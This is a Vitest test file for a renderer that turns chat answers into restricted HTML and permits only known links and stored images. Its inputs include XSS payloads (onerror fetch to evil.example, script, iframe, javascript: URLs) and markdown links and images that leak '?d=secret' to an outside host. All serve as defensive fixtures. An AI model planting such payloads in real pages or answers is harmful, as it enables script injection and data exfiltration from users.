import fc from 'fast-check'
import { describe, expect, it } from 'vitest'
import { linkify } from '@foyer/core/text/linkify.ts'
import { answerHtml } from './answer-html.ts'
import { knownAddresses } from './answer-words.ts'

const known = knownAddresses([
  {
    docId: 'd1',
    question: 'Where is my parcel?',
    text: 'See https://shop.example/parcels?lang=en. A map is at /files/f1a2/map.png',
    references: [{ name: 'Slip', url: '/files/f3/slip.pdf' }],
  },
])

const html = (text: string) => answerHtml(text, known)

describe('answerHtml', () => {
  it.each([
    ['One line', '<p>One line</p>'],
    ['One\ntwo\n\nthree', '<p>One<br>two</p><p>three</p>'],
    [
      'Bring:\n- a box\n- the slip\nThen wait.',
      '<p>Bring:</p><ul><li>a box</li><li>the slip</li></ul><p>Then wait.</p>',
    ],
    ['1. Pack\n2) Send', '<ol><li>Pack</li><li>Send</li></ol>'],
    ['Within **30 days**.', '<p>Within <b>30 days</b>.</p>'],
    ['## Returns\nFree', '<p><b>Returns</b><br>Free</p>'],
    ['```html\n`code`\n```', '<p>`code`</p>'],
    ['a < b && c > "d"', '<p>a &lt; b &amp;&amp; c &gt; &quot;d&quot;</p>'],
    ['2 * 3 * 4 **', '<p>2 * 3 * 4 **</p>'],
  ])('%j', (text, expected) => {
    expect(html(text)).toBe(expected)
  })

  it.each([
    ['<img src=x onerror=fetch("https://evil.example/?d=1")>'],
    ['<script>alert(1)</script>'],
    ['</p><iframe src="https://evil.example">'],
    ['<b onmouseover=alert(1)>x</b>'],
    ['<style>@import url(https://evil.example)</style>'],
    ['- <svg onload=alert(1)>\n1. <math>'],
    ['**<img src=x>**'],
    ['[<img src=x>](https://shop.example/parcels?lang=en)'],
    ['![<img src=x onerror=alert(1)>](/files/f1a2/map.png)'],
    ['![x" onerror="alert(1)](/files/f1a2/map.png)'],
  ])('%j brings no element and no attribute of its own', (text) => {
    expect(dangersIn(html(text))).toEqual([])
  })

  it('a link leads where a document leads, with its address in plain sight', () => {
    expect(html('See [our page](https://shop.example/parcels?lang=en)!')).toBe(
      '<p>See  our page (https://shop.example/parcels?lang=en) !</p>',
    )
    expect(html('See https://shop.example/parcels?lang=en.')).toContain(
      'https://shop.example/parcels?lang=en.',
    )
  })

  it.each([
    ['[here](https://evil.example/?d=secret)', 'here (evil.example)'],
    ['https://evil.example/?d=secret', 'evil.example'],
    ['www.evil.example/?d=secret', 'evil.example'],
    ['[https://shop.example](https://evil.example/x)', 'shop.example (evil.example)'],
    ['https://shop.example@evil.example/x', 'evil.example'],
    ['[x](javascript:alert(1))', 'x )'],
    ['[x](data:text/html,<script>)', 'x'],
    ['[x](//evil.example/x)', 'x'],
    ['https://shop.example/parcels?lang=en&d=secret', 'shop.example'],
    ['[x][1]\n[1]: https://evil.example/?d=secret', 'x'],
  ])('of %j only the words and the host are left', (text, left) => {
    expect(wordsOf(html(text))).toBe(left)
    expect(linksIn(html(text))).toEqual([])
  })

  it('of pictures only those that we store and a document names', () => {
    expect(html('![the map](/files/f1a2/map.png)')).toBe(
      '<p><img src="/files/f1a2/map.png" alt="the map"></p>',
    )
    for (const address of [
      'https://evil.example/p.png?d=secret',
      '//evil.example/p.png',
      '/files/other/p.png',
      '/api/chat/visitor/stream',
      'data:image/png;base64,AAAA',
      '/files/../api/x',
    ])
      expect(html(`![a picture](${address})`)).not.toContain('<img')
    expect(html('![a][ref] ![b]\n[ref]: https://evil.example/p.png')).not.toMatch(/<img|evil/)
  })

  it('no pieces of an answer make an address together', () => {
    expect(linksIn(html('https://![](x)evil.example/?d=1'))).toEqual([])
    expect(linksIn(html('https://[](x)evil.example/?d=1'))).toEqual([])
    expect(linksIn(html('https://**evil.example**/?d=1'))).toEqual([])
    expect(linksIn(html('https://`evil.example`/?d=1'))).toEqual([])
  })

  it('nothing that is said becomes markup, and no address is new', () => {
    const piece = fc.oneof(
      fc.string(),
      fc.constantFrom('<', '>', '"', '&', '**', '![', '](', ')', '[', ']', '`', '\n', '- ', '# ', '1. '),
      fc.constantFrom('https://', 'www.', 'evil.example', '/?d=1', '/files/f1a2/map.png', 'javascript:'),
    )
    fc.assert(
      fc.property(fc.array(piece, { maxLength: 25 }), (pieces) => {
        const made = html(pieces.join(''))
        expect(dangersIn(made)).toEqual([])
        for (const href of linksIn(made)) expect(known.has(href)).toBe(true)
      }),
      { numRuns: 3000 },
    )
  })
})

/** Every tag that is not one of the few, as it stands. */
function dangersIn(made: string): string[] {
  const allowed = /^<(?:\/?(?:p|ul|ol|li|b)|br|img src="\/files\/f1a2\/map\.png" alt="[^"<>]*")>$/
  return (made.match(/<[^>]*>?/g) ?? []).filter((tag) => !allowed.test(tag))
}

/** What the page would make clickable: it looks at each run of words by itself. */
function linksIn(made: string): string[] {
  return made.split(/<[^>]*>/).flatMap((run) => linkify(unescaped(run)).flatMap(({ href }) => href ?? []))
}

function wordsOf(made: string): string {
  return unescaped(made.replace(/<[^>]*>/g, ' '))
    .replace(/\s+/g, ' ')
    .trim()
}

function unescaped(text: string): string {
  return text
    .replaceAll('&lt;', '<')
    .replaceAll('&gt;', '>')
    .replaceAll('&quot;', '"')
    .replaceAll('&amp;', '&')
}
